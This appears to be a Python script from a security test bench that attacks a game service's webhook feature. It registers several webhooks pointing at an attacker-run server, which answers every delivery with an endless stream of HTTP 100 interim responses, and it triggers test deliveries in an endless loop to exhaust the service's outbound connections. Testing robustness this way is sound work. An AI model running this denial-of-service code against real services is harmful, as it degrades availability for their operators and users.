"""Attacks by receiving: webhooks whose receivers hold on to the service's connections."""

from __future__ import annotations

import asyncio
from asyncio import StreamReader, StreamWriter
from contextlib import suppress

from bench.hostile.target import ATTACKER, Target

RECEIVERS = 7
INTERIM = b"HTTP/1.1 100 \r\n\r\n" * 4096
CREATE = (
    "mutation { createGame(game: {dankAndDraft: {}}, seats: [{kind: MINE}, {kind: MINE}]) "
    "{ ... on GameCreated { hostToken game { gameId } } } }"
)
HOOK = (
    "mutation ($game: ID!, $url: String!, $secret: String!) { createWebhook(gameId: $game, url: $url, events: [GAME_OVER], "
    "secret: $secret) { ... on WebhookCreated { webhook { id } } } }"
)
TEST = "mutation ($game: ID!, $hook: ID!) { testWebhook(gameId: $game, webhookId: $hook) { __typename } }"
SECRET = "whsec_" + "A" * 32


async def endless_interim_answers(target: Target) -> None:
    """Answer each delivery with interim answers without end."""

    async def answer(_: StreamReader, writer: StreamWriter) -> None:
        with suppress(OSError):
            while not writer.is_closing():
                writer.write(INTERIM)
                await writer.drain()

    async with await asyncio.start_server(answer, ATTACKER, 0) as server:
        port = server.sockets[0].getsockname()[1]
        created = (await target.post(CREATE))["data"]["createGame"]
        game, token = created["game"]["gameId"], created["hostToken"]
        hooks = []
        for number in range(RECEIVERS):
            given = {"game": game, "url": f"http://{ATTACKER}:{port}/{number}", "secret": SECRET}
            hooks.append((await target.post(HOOK, given, token))["data"]["createWebhook"]["webhook"]["id"])
        while True:
            for hook in hooks:
                await target.post(TEST, {"game": game, "hook": hook}, token)
            await asyncio.sleep(1)
